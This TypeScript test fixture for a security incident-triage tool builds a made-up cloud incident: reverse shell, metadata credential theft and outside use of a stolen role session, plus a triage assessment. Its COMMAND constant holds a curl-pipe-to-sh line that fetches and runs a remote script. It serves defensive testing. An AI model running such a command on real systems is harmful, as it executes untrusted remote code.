import type { Assessment, ResponseId } from '../../triage/assessment/assessment.ts';
import { RESPONSES } from '../../triage/assessment/assessment.ts';
import type { KeyedFinding, Resource } from '../../triage/finding/finding.ts';
import type { Instant } from '../../triage/finding/instant.ts';
import { parseInstant } from '../../triage/finding/instant.ts';
import { keyOf } from '../../triage/finding/keys.ts';
import type { Key } from '../../triage/finding/keys.ts';
import { fromOutside } from '../../triage/finding/untrusted.ts';
import type { Untrusted } from '../../triage/finding/untrusted.ts';
import type { CauseEvidence, Incident } from '../../triage/incident/incident.ts';

/*
 * A story made up for these tests: a shop's checkout container is exploited, reads credentials from
 * the metadata service, mines, and its stolen role session is used from outside.
 */

/** Stands in every field that an attacker can write. */
export type Write = (field: string, usual: string) => Untrusted;

export const usual: Write = (_field, text) => fromOutside(text);

export function at(text: string): Instant {
  const instant = parseInstant(text);
  if (instant === undefined) throw new Error(`no time: ${text}`);
  return instant;
}

export const STORY_ID = 'inc-01j8z3k5m7n9p1q3r5s7t9v1w3';
export const ALIAS_ID = 'inc-01j8z3k5m7n9p1q3r5s7t9v1w4';

const COMMAND = `sh -c "curl -s http://198.51.100.23/x.sh | sh"`;

function pod(write: Write): Resource {
  return {
    cluster: write('cluster', 'shop-prod'),
    namespace: write('namespace', 'shop'),
    workload: write('workload', 'checkout'),
    pod: write('pod', 'checkout-5d9c7b6f4-x2x9z'),
    container: write('container', 'app'),
    containerId: write('containerId', 'a1b2c3d4e5f6'),
    image: write('image', 'registry.example/shop/checkout:1.4.2'),
    imageDigest: write('imageDigest', `sha256:${'ab'.repeat(32)}`),
    node: write('node', 'ip-10-0-1-23.eu-west-1.compute.internal'),
  };
}

function role(write: Write): Resource {
  return {
    account: write('account', '111122223333'),
    region: write('region', 'eu-west-1'),
    instanceId: write('instanceId', 'i-0123456789abcdef0'),
    principal: write('principal', 'shop-prod-node'),
    roleSession: write('roleSession', 'i-0123456789abcdef0'),
    accessKeyId: write('accessKeyId', 'ASIAIOSFODNN7EXAMPLE'),
  };
}

type Shown = Pick<
  KeyedFinding,
  'source' | 'severity' | 'resource' | 'attack' | 'remoteAddresses'
> & {
  readonly title: string;
  readonly id: string;
};

function cause(shown: Shown, seen: { first: string; last: string; count: number }, write: Write) {
  const fingerprint = keyOf([shown.source, shown.id]);
  const { title, id, resource, attack, remoteAddresses } = shown;
  const first = at(seen.first);
  const last = at(seen.last);
  const key = (index: number): Key => keyOf([fingerprint, index]);
  const evidence: CauseEvidence = {
    fingerprint,
    count: seen.count,
    firstSeenAt: first,
    lastSeenAt: last,
    severity: shown.severity,
    display: {
      source: shown.source,
      kind: 'detection',
      id: write('id', id),
      uid: write('uid', 'arn-of-the-finding'),
      title: write('title', title),
      severity: shown.severity,
      ...(resource && { resource }),
      ...(remoteAddresses && { remoteAddresses }),
      process: write('process', COMMAND),
      ...(attack && { attack }),
      firstSeenAt: first,
      lastSeenAt: last,
      fingerprint,
      occurrence: key(0),
    },
    // Distinct times do not matter here; the store keeps at most five at each end.
    earliest: Array.from({ length: Math.min(5, seen.count) }, (_, index) => ({
      at: index === seen.count - 1 ? last : first,
      occurrence: key(index),
    })),
    latest: Array.from({ length: Math.min(5, seen.count) }, (_, index) => ({
      at: index === seen.count - 1 ? last : first,
      occurrence: key(index),
    })),
  };
  return evidence;
}

export function storyIncident(write: Write = usual): Incident {
  const attacker = write('address', '203.0.113.77');
  const causes = [
    cause(
      {
        source: 'falco',
        id: 'Reverse Shell from Web Server',
        title: 'Reverse Shell from Web Server',
        severity: 'critical',
        resource: pod(write),
        attack: [{ technique: 'T1059.004', tactics: ['execution'] }],
        remoteAddresses: [write('address', '198.51.100.23')],
      },
      { first: '2026-11-20T10:04:11.123456789Z', last: '2026-11-20T10:05:40.5Z', count: 3 },
      write,
    ),
    cause(
      {
        source: 'falco',
        id: 'Contact EC2 Instance Metadata Service From Container',
        title: 'Contact EC2 Instance Metadata Service From Container',
        severity: 'low',
        resource: pod(write),
        attack: [{ technique: 'T1552.005', tactics: ['credential-access'] }],
      },
      { first: '2026-11-20T10:06:02Z', last: '2026-11-20T10:06:02Z', count: 1 },
      write,
    ),
    cause(
      {
        source: 'guardduty',
        id: 'UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS',
        title: 'Credentials of an instance were used from an external address',
        severity: 'high',
        resource: role(write),
        attack: [
          { technique: 'T1078.004', tactics: ['stealth', 'persistence'], tacticsUncertain: true },
        ],
        remoteAddresses: [attacker],
      },
      { first: '2026-11-20T11:30:00Z', last: '2026-11-21T00:10:00Z', count: 4 },
      write,
    ),
  ];
  return {
    id: STORY_ID,
    aliases: [ALIAS_ID],
    state: 'open',
    severity: 'critical',
    noise: false,
    title: write('title', 'Reverse Shell from Web Server'),
    techniques: ['T1059.004', 'T1078.004', 'T1552.005'],
    tactics: ['execution', 'persistence', 'stealth', 'credential-access'],
    sources: ['falco', 'guardduty'],
    products: ['falco', 'guardduty'],
    resources: [pod(write), role(write)],
    remoteAddresses: [write('address', '198.51.100.23'), attacker],
    firstSeenAt: at('2026-11-20T10:04:11.123456789Z'),
    lastSeenAt: at('2026-11-21T00:10:00Z'),
    causes,
    findingCount: 8,
    decisions: [
      {
        id: keyOf(['decision']),
        incident: ALIAS_ID,
        kind: 'reopened',
        decidedAt: at('2026-11-20T12:00:00Z'),
        owner: write('owner', 'Kim of the platform team'),
        reason: write('reason', 'seen again after the roll-out'),
        fingerprints: causes.slice(0, 1).map(({ fingerprint }) => fingerprint),
      },
    ],
    revision: keyOf(['revision']),
  };
}

const BECAUSE: Partial<Record<ResponseId, string>> = {
  'isolate-pod': 'a reverse shell ran in this pod',
  'revoke-role-sessions': 'the role session is used from outside',
};

export function storyAssessment(
  write: Write = usual,
  responses: readonly ResponseId[] = [
    'collect-evidence',
    'isolate-pod',
    'revoke-role-sessions',
    'block-address',
    'rebuild-image',
  ],
): Assessment {
  return {
    revision: keyOf(['revision']),
    severity: 'critical',
    confidence: 90,
    reasons: [
      {
        rule: 'severity-of-findings',
        because: 'The gravest finding is critical.',
        about: [write('title', 'Reverse Shell from Web Server')],
        severity: 'critical',
      },
      { rule: 'products-agree', because: 'Two products saw it.', confidence: 20 },
    ],
    killChain: [
      { tactic: 'initial-access', seen: false },
      { tactic: 'execution', seen: true },
      { tactic: 'credential-access', seen: true },
      { tactic: 'impact', seen: false },
    ],
    exposures: [
      {
        image: write('image', 'registry.example/shop/checkout:1.4.2'),
        imageDigest: write('imageDigest', `sha256:${'ab'.repeat(32)}`),
        tool: write('tool', 'trivy'),
        scannedAt: '2026-11-20T09:00:00Z' as Instant,
        file: write('file', 'trivy-image.json'),
        knownExploited: [
          {
            cve: write('cve', 'CVE-2021-44228'),
            package: write('package', 'log4j-core'),
            version: write('version', '2.14.1'),
            fixedVersion: write('fixedVersion', '2.17.1'),
            severity: 'critical',
            namedAt: '2026-11-20T09:00:00Z' as Instant,
          },
        ],
        gone: [],
      },
    ],
    recommended: responses.map((response) => ({
      response,
      because: BECAUSE[response] ?? 'the rules ask for it',
    })),
  };
}

export const EVERY_RESPONSE: readonly ResponseId[] = RESPONSES;
